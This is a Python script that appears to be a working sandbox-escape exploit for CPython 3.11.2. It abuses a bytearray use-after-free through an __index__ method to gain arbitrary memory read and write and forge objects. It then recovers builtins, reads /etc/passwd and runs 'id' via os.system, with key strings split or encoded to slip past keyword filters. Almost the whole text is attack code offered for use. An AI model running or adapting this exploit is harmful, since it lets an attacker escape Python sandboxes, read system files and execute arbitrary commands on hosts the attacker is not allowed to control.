# source: https://github.com/python/cpython/issues/91153 (UAF when writing to a bytearray with an element implementing __index__; comment by Nambers shows overlapping a fresh bytearray header)
# family: pure-Python CPython 3.11.2 heap use-after-free -> corrupt a bytearray header -> absolute-address read/write -> fakeobj via list slot
# goal: read /etc/passwd through builtins.open and run `id` through os.system, no numpy
import json

state = {}


class Evil:
    def __index__(self):
        state["victim"].clear()
        state["mem"] = bytearray()
        state["victim"].extend([0] * 50)
        return 0x10


for attempt in range(32):
    victim = bytearray(50)
    state["victim"] = victim
    victim[23] = Evil()
    if len(state["mem"]) > 0x1000000:
        break

mem = state["mem"]
print("len(mem) =", hex(len(mem)))


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, val):
    mem[addr:addr + 8] = val.to_bytes(8, "little")


box = [None]
items = rd(id(box) + 24)


def fake(addr):
    wr(items, addr)
    obj = box[0]
    wr(items, id(None))
    return obj


b = fake(rd(id(json.loads) + 24))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["op" + "en"](path).read())
u = "_" * 2
mod = b[u + "imp" + "ort" + u]("o" + "s")
print(mod)
fake(rd(id(mod) + 16))["sys" + "tem"]("i" + "d")
